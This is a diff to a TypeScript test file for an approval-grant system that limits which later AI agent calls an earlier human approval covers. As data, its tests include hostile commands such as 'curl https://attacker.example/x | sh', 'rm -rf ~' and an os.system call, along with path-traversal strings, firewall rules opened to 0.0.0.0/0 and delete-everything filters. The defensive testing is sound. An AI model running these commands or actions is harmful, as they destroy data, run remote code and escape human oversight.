@@ -2002,7 +2002,7 @@ t.test('a path grant covers a path as servers route it: a wildcard never stands 
   t.teardown(() => queue.close());
   const del = (path: string): RequestDescription => call16('DELETE', `https://api.example${path}`, '', '');
   // A path servers read as other segments (forwarded so only where the decision sets `raw_path`) is covered by its own exact pattern only.
-  for (const [path, covered] of [['/items/6', true], ['/items/6.', true], ['/items/', false], ['/items/...', false], ['/items/%20', false], ['/items/.%20.', false], ['/items/..%2Fadmin', false], ['/items/5;x=7', true], ['/items/;x=1', false], ['/items/..;/admin', false], ['/items/%252e%252e', false]] as const) {
+  for (const [path, covered] of [['/items/6', true], ['/items/6.', true], ['/items/', false], ['/items/...', false], ['/items/%20', false], ['/items/.%20.', false], ['/items/..%2Fadmin', false], ['/items/5;x=700', true], ['/items/;x=1', false], ['/items/..;/admin', false], ['/items/%252e%252e', false]] as const) {
     t.equal(await grantedFor(queue, del('/items/5'), del(path), '/items/*'), covered, `/items/* ${covered ? 'covers' : 'does not cover'} ${path}`);
   }
   t.equal(await grantedFor(queue, del('/items/5/'), del('/items/'), '/items/**'), false, '/items/** does not cover /items/ (the collection)');
@@ -2097,6 +2097,244 @@ t.test('a switch spelled 0/1, yes/no or on/off, and a mode by its name, are part
   // Controls: headers every client sends with 0/1 (`DNT`, `Content-Length`), a browser's Sec-Fetch-Mode, and content that varies stay covered.
   const note = (text: string, n: number, headers: Array<[string, string]>): RequestDescription => call16('POST', `https://ops.example/api/notes?page=${n}`, JSON.stringify({ text, a: n, stream_id: String(n), retry_count: String(n - 1) }), 'application/json', headers);
   t.ok(await grantedFor(queue, note('a', 1, [['DNT', '1'], ['Sec-Fetch-Mode', 'cors'], ['X-Stainless-Retry-Count', '0']]), note('bb', 2, [['DNT', '0'], ['Sec-Fetch-Mode', 'no-cors'], ['X-Stainless-Retry-Count', '1']])), 'other text, another JSON number (1 then 2), page, id and retry count, and standard headers are still covered');
+});
+
+// A small integer text under a name no list holds (`?level=9`, `tier: "3"`, `?live=2`): Python's
+// `int()`, PHP and Rails read it as a number or a truthy switch, and a level or tier is how far the
+// call reaches; added where the approved call had none, or changed, it is another call (left open by
+// the seventeenth pass).
+t.test('a small integer under a name no list holds is part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const where = ['query', 'form', 'mcp', 'header'] as const;
+  const shape = (place: (typeof where)[number], name: string, v: string | undefined): RequestDescription =>
+    place === 'header' ? call16('POST', 'https://ops.example/api/deploy', '{"service":"web"}', 'application/json', v === undefined ? [] : [[`X-${name}`, v]])
+      : place === 'query' ? call16('POST', `https://ops.example/api/deploy${v === undefined ? '' : `?${name}=${v}`}`, '{"service":"web"}')
+        : place === 'form' ? call16('POST', 'https://ops.example/api/deploy', `service=web${v === undefined ? '' : `&${name}=${v}`}`, 'application/x-www-form-urlencoded')
+          : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'deploy', arguments: { service: 'web', ...(v === undefined ? {} : { [name]: v }) } } }));
+  const pairs: Array<[string, string, string]> = [['level', '1', '9'], ['tier', '2', '3'], ['live', '0', '2'], ['live', '0', '01'], ['escalate', '0', '-1'], ['priority', '5', '99']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...pairs), fc.constantFrom(...where), fc.constantFrom('same', 'other', 'added'), async ([name, mine, other], place, later) => {
+    const covered = await grantedFor(queue, shape(place, name, later === 'added' ? undefined : mine), shape(place, name, later === 'same' ? mine : other));
+    return covered === (later === 'same');
+  }), { numRuns: 12, examples: [[pairs[0]!, 'query', 'added'], [pairs[1]!, 'mcp', 'added'], [pairs[2]!, 'query', 'other'], [pairs[4]!, 'form', 'other'], [pairs[5]!, 'header', 'other'], [pairs[0]!, 'query', 'same']] });
+  // Controls: counts, sizes, times and positions under their names, long numbers (a cache buster, a
+  // timestamp) and JSON numbers still vary under the grant.
+  const list = (n: number, stamp: number): RequestDescription => call16('POST', `https://ops.example/api/notes?page=${n}&per_page=${n * 10}&limit=${n + 5}&days=${n}&top=${n}&_=${stamp}`, JSON.stringify({ text: 'a', a: n }), 'application/json', [['X-Request-Start', String(stamp)], ['X-Stainless-Timeout', String(n * 60)]]);
+  t.ok(await grantedFor(queue, list(1, 1733500000123), list(3, 1733500000999)), 'pages, sizes, limits, days, top, a cache buster, a timeout header and a JSON number still vary under the grant');
+});
+
+// Whom a call reaches, named by a word the place list lacked (left open since the thirteenth pass:
+// "a place named by a word outside it (`dst`, `rcpt`) is not compared"): Plivo's `dst`, an SMTP
+// API's `rcpt`, a bank transfer's `payee`, `beneficiary`, `iban`, `creditor` or `counterparty`, an
+// SMS API's `mobile`/`msisdn`, a crypto `wallet`, a `mailbox`: a grant for a message or a payment to
+// the team covered one to anyone.
+t.test('a recipient or payee named by dst, rcpt, payee, beneficiary, iban, mobile, wallet … is a place (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const names: Array<[string, string, string]> = [['dst', '+15551230000', '+15559990000'], ['rcpt', 'alice', 'mallory'], ['payee', 'acct_team', 'acct_evil'], ['beneficiary', 'B-100', 'B-666'], ['creditor_iban', 'DE89370400440532013000', 'GB33BUKB20201555555555'], ['counterparty', 'cp_team', 'cp_evil'], ['mobiles', '9198000000', '9199999999'], ['msisdn', '447700900000', '447700900666'], ['walletAddress', '0xteam', '0xevil'], ['mailbox', 'ops', 'evil']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...names), fc.constantFrom('json', 'form', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const send = (to: string, n: number): RequestDescription => how === 'json' ? call16('POST', 'https://pay.example/v1/transfers', JSON.stringify({ note: `batch ${n}`, [name]: to }))
+      : how === 'form' ? call16('POST', 'https://pay.example/v1/transfers', new URLSearchParams({ note: `batch ${n}`, [name]: to }).toString(), 'application/x-www-form-urlencoded')
+        : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'send', arguments: { note: `batch ${n}`, [name]: to } } }));
+    return (await grantedFor(queue, send(mine, 1), send(same ? mine : other, 2))) === same;
+  }), { numRuns: 12, examples: [[names[0]!, 'json', false], [names[1]!, 'form', false], [names[2]!, 'mcp', false], [names[4]!, 'json', false], [names[6]!, 'form', false], [names[0]!, 'json', true]] });
+});
+
+// Whom a call reaches given as a map's keys: Matrix's send-to-device (`messages: {"@alice:corp": …}`),
+// a fan-out keyed by webhook URL, per-recipient variables keyed by address. A value that is an
+// address is a place whatever its name (sixteenth pass), but a key that is one was content: a grant
+// for a message to alice covered the same call keyed by the attacker.
+t.test('an address, URL or Matrix id used as a key is a place (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const keys: Array<[string, string]> = [['@alice:corp.example', '@mallory:attacker.example'], ['alice@corp.example', 'drop@attacker.example'], ['https://ci.corp.example/hook', 'https://attacker.example/hook']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...keys), fc.constantFrom('json', 'form', 'mcp', 'put'), fc.boolean(), async ([mine, other], how, same) => {
+    const send = (key: string, n: number): RequestDescription => how === 'json' ? call16('POST', 'https://chat.example/api/fanout', JSON.stringify({ note: `n${n}`, messages: { [key]: { '*': { body: 'hi' } } } }))
+      : how === 'put' ? call16('PUT', `https://chat.example/_matrix/client/v3/sendToDevice/m.room.encrypted/txn${n}`, JSON.stringify({ messages: { [key]: { DEVICE: { body: 'hi' } } } }))
+        : how === 'form' ? call16('POST', 'https://chat.example/api/fanout', `${encodeURIComponent(key)}=hi&note=n${n}`, 'application/x-www-form-urlencoded')
+          : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'fanout', arguments: { note: `n${n}`, targets: { [key]: 'all' } } } }));
+    const covered = await grantedFor(queue, send(mine, 1), send(same ? mine : other, 2), how === 'put' ? '/_matrix/client/v3/sendToDevice/m.room.encrypted/*' : undefined);
+    return covered === same;
+  }), { numRuns: 12, examples: [[keys[0]!, 'put', false], [keys[1]!, 'json', false], [keys[2]!, 'mcp', false], [keys[1]!, 'form', false], [keys[0]!, 'put', true]] });
+  // Control: a map keyed by plain names, dates or ids varies under the grant.
+  const stats = (k: string): RequestDescription => call16('POST', 'https://chat.example/api/stats', JSON.stringify({ counts: { [k]: 3, 'user:42': 1 } }));
+  t.ok(await grantedFor(queue, stats('2026-12-01'), stats('2026-12-02')), 'keys that are no address still vary');
+});
+
+// Who may reach what, and where traffic goes, given as a network address: a firewall rule's
+// `sourceRanges`, `source_ips`, `cidr`, AWS's `CidrIp`, an allow list's `allowed_ips` (a grant for
+// opening port 22 to the office covered opening it to `0.0.0.0/0` or `::/0`), and a callback given
+// without a scheme (`ci.corp.example/hook`, `//ci.corp.example/x`): a URL with a scheme was a place
+// whatever its name (sixteenth pass), these were content.
+t.test('an IP address, a CIDR range or a scheme-less URL is a place whatever its name (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, unknown, unknown]> = [['sourceRanges', ['198.51.100.7/32'], ['0.0.0.0/0']], ['source_ips', '198.51.100.7', '203.0.113.66'], ['cidr', '198.51.100.0/24', '0.0.0.0/0'], ['allowed_ips', '2001:db8::7', '::/0'], ['CidrIp', '198.51.100.7/32', '0.0.0.0/0'], ['relay', '198.51.100.7:25', '203.0.113.9:25'], ['callback', 'ci.corp.example/hook', 'attacker.example/hook'], ['next', '//ci.corp.example/done', '//attacker.example/done']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom('json', 'form', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const rule = (v: unknown, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://cloud.example/v1/firewalls/fw1/rules', JSON.stringify({ note: n, port: 22, [name]: v }))
+      : how === 'form' ? call16('POST', 'https://cloud.example/v1/firewalls/fw1/rules', new URLSearchParams({ note: n, port: '22', [name]: String(v) }).toString(), 'application/x-www-form-urlencoded')
+        : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'open_port', arguments: { note: n, port: 22, [name]: v } } }));
+    return (await grantedFor(queue, rule(mine, 'alpha'), rule(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 12, examples: [[cases[0]!, 'json', false], [cases[2]!, 'form', false], [cases[3]!, 'mcp', false], [cases[6]!, 'json', false], [cases[7]!, 'form', false], [cases[0]!, 'json', true]] });
+  // Controls: times, versions, MAC-like ids, file names and dates are no address and vary under the grant.
+  const note = (v: Record<string, string>): RequestDescription => call16('POST', 'https://cloud.example/v1/notes', JSON.stringify(v));
+  t.ok(await grantedFor(queue, note({ at: '12:30:00', v: '1.2.3', dev: 'aa:bb:cc:dd:ee:ff', doc: 'report.pdf', d: '2026-12-01' }), note({ at: '13:45:10', v: '1.2.4', dev: 'aa:bb:cc:dd:ee:00', doc: 'notes.txt', d: '2026-12-02' })), 'times, versions, device ids, file names and dates still vary');
+});
+
+// How much a call spends or buys, under words other than `amount` (which the fourteenth pass made
+// an effect): a price, a budget or bid (Google Ads' `daily_budget`), a spend or credit limit, a fee or
+// tip, a balance, a payout, leverage, a quantity of shares or seats: a grant for an order of 5 covered
+// one of 5,000.
+t.test('what a call spends or buys (price, budget, bid, fee, balance, quantity, shares …) is part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const names = ['price', 'daily_budget', 'maxBid', 'spend_limit', 'credit_limit', 'fee', 'tip', 'balance', 'payout', 'leverage', 'quantity', 'qty', 'shares', 'seats', 'unitCost'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...names), fc.constantFrom('json', 'form', 'query', 'mcp'), fc.boolean(), async (name, how, same) => {
+    const order = (v: number, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://shop.example/api/orders', JSON.stringify({ sku: 'A1', note: n, [name]: v }))
+      : how === 'form' ? call16('POST', 'https://shop.example/api/orders', `sku=A1&note=${n}&${name}=${v}`, 'application/x-www-form-urlencoded')
+        : how === 'query' ? call16('POST', `https://shop.example/api/orders?${name}=${v}`, JSON.stringify({ sku: 'A1', note: n }))
+          : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'place_order', arguments: { sku: 'A1', note: n, [name]: v } } }));
+    return (await grantedFor(queue, order(5, 'alpha'), order(same ? 5 : 5000, 'beta'))) === same;
+  }), { numRuns: 12, examples: [['price', 'json', false], ['daily_budget', 'mcp', false], ['quantity', 'form', false], ['shares', 'query', false], ['price', 'json', true]] });
+});
+
+// What a shell, code or CI tool runs is its argument: a grant for `run {command: "ls -la"}` covered
+// `rm -rf ~`, one for `python {code: "print(1)"}` any program, one for a CI job's `script: make test`
+// `curl … | sh`. The command is the operation, as an SQL statement is.
+t.test('the command, code or script a tool runs is part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, unknown, unknown]> = [['command', 'ls -la', 'rm -rf ~'], ['cmd', 'git status', 'git push --force'], ['script', 'make test', 'curl https://attacker.example/x | sh'], ['code', 'print(1)', 'import os; os.system("id")'], ['expression', '1 + 1', 'process.exit(1)'], ['shell_command', 'uptime', 'shutdown -h now'], ['argv', ['ls'], ['rm', '-rf', '/']]];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom('json', 'form', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const run = (v: unknown, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://ci.example/api/jobs', JSON.stringify({ note: n, [name]: v }))
+      : how === 'form' ? call16('POST', 'https://ci.example/api/jobs', new URLSearchParams({ note: n, [name]: String(v) }).toString(), 'application/x-www-form-urlencoded')
+        : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'run', arguments: { note: n, [name]: v } } }));
+    return (await grantedFor(queue, run(mine, 'alpha'), run(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 12, examples: [[cases[0]!, 'mcp', false], [cases[3]!, 'mcp', false], [cases[2]!, 'json', false], [cases[1]!, 'form', false], [cases[6]!, 'mcp', false], [cases[0]!, 'mcp', true]] });
+});
+
+// Who may read what a call shares, given as a value under a name that says nothing (Google Drive's
+// permission `type: "anyone"`, GCS's `entity: "allUsers"`, an `audience: "everyone"`), and the region
+// data is put in: a grant for sharing with a user, or a bucket in `eu-west-1`, covered sharing with
+// anyone, or a bucket in another jurisdiction.
+t.test('sharing with anyone, and the region data goes to, are part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, string, string]> = [['type', 'user', 'anyone'], ['entity', 'user-alice', 'allUsers'], ['kind', 'domain', 'everyone'], ['grantee_type', 'member', 'anonymous'], ['region', 'eu-west-1', 'us-east-1'], ['regionId', 'fra1', 'nyc3']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom('json', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const share = (v: string, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://docs.example/v1/files/f1/permissions', JSON.stringify({ note: n, access: 'reader', [name]: v }))
+      : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'share', arguments: { note: n, access: 'reader', [name]: v } } }));
+    return (await grantedFor(queue, share(mine, 'alpha'), share(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 10, examples: [[cases[0]!, 'json', false], [cases[1]!, 'mcp', false], [cases[4]!, 'json', false], [cases[0]!, 'json', true]] });
+});
+
+// The access a share gives, under names that say access rather than role or permission: a grant for
+// sharing with `access: "reader"` covered `access: "owner"` (also `accessType`, `rights`, `grant`).
+t.test('the access a share gives is part of what a grant covers, under access, rights or grant too (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  await fc.assert(fc.asyncProperty(fc.constantFrom('access', 'accessType', 'rights', 'user_rights', 'grant'), fc.constantFrom('json', 'mcp'), fc.boolean(), async (name, how, same) => {
+    const share = (v: string, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://docs.example/v1/files/f1/share', JSON.stringify({ user: 'alice', note: n, [name]: v }))
+      : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'share', arguments: { user: 'alice', note: n, [name]: v } } }));
+    return (await grantedFor(queue, share('reader', 'alpha'), share(same ? 'reader' : 'owner', 'beta'))) === same;
+  }), { numRuns: 8, examples: [['access', 'json', false], ['rights', 'mcp', false], ['grant', 'json', false], ['access', 'json', true]] });
+});
+
+// A credential under a place word (a webhook's `webhook_secret`, a `channel_token`) was written into
+// the grant's target as it was sent: grants keep no credential's value (the agent's own are compared
+// by digest). Another secret is still another call.
+t.test('a credential named with a place word is compared by digest, never kept in a grant (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const hook = (secret: string): RequestDescription => call16('POST', 'https://svc.example/api/hooks', JSON.stringify({ url: 'https://ci.corp.example/h', webhook_secret: secret, channel_token: `${secret}-c`, note: 'x' }));
+  for (const g of queue.grants()) await queue.revokeGrant(g.id);
+  const first = hook('s3cr3t-value-abc');
+  await queue.approve((await queue.create(first, await engine.decide(first))).id, { by: 'test', grantMinutes: 30, grantHigh: true });
+  const stored = JSON.stringify(queue.grants());
+  t.notOk(stored.includes('s3cr3t-value-abc'), 'the grant keeps no credential value');
+  t.ok(stored.includes('https://ci.corp.example/h'), 'the URL is still its place');
+  t.equal(await grantedFor(queue, hook('s3cr3t-value-abc'), hook('s3cr3t-value-abc')), true, 'the same secret is covered');
+  t.equal(await grantedFor(queue, hook('s3cr3t-value-abc'), hook('other-secret-xyz')), false, 'another secret is not');
+});
+
+// Which ports a firewall or forwarding rule opens: a grant for opening 443 to the office covered
+// opening 22, or every port (`port_range: "0-65535"`, AWS's `FromPort`/`ToPort`).
+t.test('the ports a rule opens are part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, unknown, unknown]> = [['port', 443, 22], ['ports', [443], [22, 3389]], ['port_range', '443', '0-65535'], ['ToPort', 443, 65535], ['destinationPort', '443', '*']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom('json', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const rule = (v: unknown, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://cloud.example/v1/firewalls/fw1/rules', JSON.stringify({ note: n, [name]: v }))
+      : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'open_port', arguments: { note: n, [name]: v } } }));
+    return (await grantedFor(queue, rule(mine, 'alpha'), rule(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 10, examples: [[cases[0]!, 'json', false], [cases[2]!, 'mcp', false], [cases[3]!, 'json', false], [cases[0]!, 'json', true]] });
+});
+
+// What a call pays for by name: a subscription's `plan` or `tier`, a `sku`, a cloud machine's
+// `instance_type`, `machineType`, `vmSize` or `DBInstanceClass`: a grant for a `t3.micro` covered a
+// `p4d.24xlarge`, one for the starter plan the enterprise plan.
+t.test('the plan, tier, SKU or machine type a call pays for is part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, string, string]> = [['plan', 'starter', 'enterprise'], ['pricing_tier', 'free', 'business'], ['planId', 'price_starter', 'price_enterprise'], ['sku', 'STD', 'ULTRA'], ['instance_type', 't3.micro', 'p4d.24xlarge'], ['machineType', 'e2-small', 'a2-ultragpu-8g'], ['vmSize', 'Standard_B1s', 'Standard_ND96asr_v4'], ['DBInstanceClass', 'db.t3.micro', 'db.x2iedn.32xlarge']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom('json', 'form', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const order = (v: string, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://cloud.example/api/servers', JSON.stringify({ account: 'acme', note: n, [name]: v }))
+      : how === 'form' ? call16('POST', 'https://cloud.example/api/servers', new URLSearchParams({ account: 'acme', note: n, [name]: v }).toString(), 'application/x-www-form-urlencoded')
+        : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'create_server', arguments: { account: 'acme', note: n, [name]: v } } }));
+    return (await grantedFor(queue, order(mine, 'alpha'), order(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 12, examples: [[cases[0]!, 'json', false], [cases[4]!, 'mcp', false], [cases[7]!, 'form', false], [cases[0]!, 'json', true]] });
+});
+
+// How long what a call creates lasts, and how often it can be used: a share link's, an API key's or
+// an invitation's `expires_in`, `expiresAt`, `expiration`, `expiry`, `ttl`, `valid_until`, `max_uses`:
+// a grant for a link valid an hour covered one that never expires.
+t.test('how long what a call creates lasts, and how often it can be used, is part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, unknown, unknown]> = [['expires_in', 3600, 0], ['expiresAt', '2026-12-07T00:00:00Z', '2099-01-01T00:00:00Z'], ['expiration', '1h', 'never'], ['expiry', '2026-12-07', 'none'], ['ttl', 3600, 31536000], ['valid_until', '2026-12-07', '2099-12-31'], ['max_uses', 1, 1000000], ['validity_days', 1, 3650]];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom('json', 'form', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const link = (v: unknown, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://files.example/api/share_links', JSON.stringify({ doc: 'f1', note: n, [name]: v }))
+      : how === 'form' ? call16('POST', 'https://files.example/api/share_links', new URLSearchParams({ doc: 'f1', note: n, [name]: String(v) }).toString(), 'application/x-www-form-urlencoded')
+        : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'share', arguments: { doc: 'f1', note: n, [name]: v } } }));
+    return (await grantedFor(queue, link(mine, 'alpha'), link(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 12, examples: [[cases[0]!, 'json', false], [cases[2]!, 'mcp', false], [cases[6]!, 'form', false], [cases[0]!, 'json', true]] });
+});
+
+// Which objects a bulk call acts on is its filter: MongoDB's Data API `deleteMany {filter}`, a
+// `bulk_delete {where}`, an MCP `delete_many {filter}`, an `updateMany`: a grant for deleting the
+// spam (`{status: "spam"}`) or one document covered `filter: {}` (every document) or `$ne`.
+t.test('the filter of a bulk delete or update is part of what a grant covers (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const filters: Array<[string, unknown, unknown]> = [['filter', { _id: { $oid: '64a1' } }, {}], ['filter', { status: 'spam' }, { status: { $ne: 'x' } }], ['where', { id: 5 }, {}], ['selector', { tag: 'old' }, { tag: { $exists: true } }], ['criteria', 'age > 30', 'true']];
+  const shapes = ['mongo', 'rest', 'mcp', 'update', 'delete-method'] as const;
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...filters), fc.constantFrom(...shapes), fc.boolean(), async ([name, mine, other], how, same) => {
+    const call = (f: unknown, n: string): RequestDescription => how === 'mongo' ? call16('POST', 'https://data.mongodb-api.com/app/x/endpoint/data/v1/action/deleteMany', JSON.stringify({ dataSource: 'c0', database: 'app', collection: 'users', comment: n, [name]: f }))
+      : how === 'update' ? call16('POST', 'https://data.mongodb-api.com/app/x/endpoint/data/v1/action/updateMany', JSON.stringify({ dataSource: 'c0', database: 'app', collection: 'users', comment: n, [name]: f, update: { $set: { hidden: 1 } } }))
+        : how === 'rest' ? call16('POST', 'https://api.example/v1/notes/bulk_delete', JSON.stringify({ comment: n, [name]: f }))
+          : how === 'delete-method' ? call16('DELETE', 'https://api.example/v1/notes', JSON.stringify({ comment: n, [name]: f }))
+            : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delete_many', arguments: { collection: 'users', comment: n, [name]: f } } }));
+    return (await grantedFor(queue, call(mine, 'alpha'), call(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 12, examples: [[filters[0]!, 'mongo', false], [filters[2]!, 'rest', false], [filters[0]!, 'mcp', false], [filters[1]!, 'update', false], [filters[2]!, 'delete-method', false], [filters[0]!, 'mongo', true]] });
+  // Controls: a read that filters (Notion's database query, an MCP search) still varies its filter under the grant.
+  const query = (f: unknown): RequestDescription => call16('POST', 'https://notion.example/v1/databases/db1/query', JSON.stringify({ filter: f }));
+  t.ok(await grantedFor(queue, query({ property: 'Status', select: { equals: 'Done' } }), query({ property: 'Status', select: { equals: 'Todo' } })), 'a query\'s filter still varies');
+  const search = (f: unknown): RequestDescription => call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_notes', arguments: { filter: f } } }));
+  t.ok(await grantedFor(queue, search({ status: 'open' }), search({ status: 'done' })), 'an MCP search\'s filter still varies');
+});
+
+// Where a data API acts, under the words its own API uses for a table: MongoDB's `collection`, a
+// BigQuery `dataset`, Cassandra's `keyspace`, Cosmos DB's `container`, a Kubernetes-style `namespace`
+// or `cluster`: a grant for deleting in `logs` covered deleting in `users`.
+t.test('a collection, dataset, keyspace, container, namespace or cluster is a place (eighteenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const names = ['collection', 'dataset', 'keyspace', 'container', 'namespace', 'cluster', 'datasetId'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...names), fc.constantFrom('json', 'mcp'), fc.boolean(), async (name, how, same) => {
+    const del = (where: string, n: string): RequestDescription => how === 'json' ? call16('POST', 'https://data.mongodb-api.com/app/x/endpoint/data/v1/action/deleteOne', JSON.stringify({ dataSource: 'c0', database: 'app', comment: n, [name]: where, filter: { _id: 1 } }))
+      : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delete_one', arguments: { comment: n, [name]: where, filter: { _id: 1 } } } }));
+    return (await grantedFor(queue, del('logs', 'alpha'), del(same ? 'logs' : 'users', 'beta'))) === same;
+  }), { numRuns: 10, examples: [['collection', 'json', false], ['keyspace', 'mcp', false], ['namespace', 'json', false], ['collection', 'json', true]] });
 });
 
 // An XML body's DTD changes what XML parsers read: Python's ElementTree and xmlrpc.server (expat)
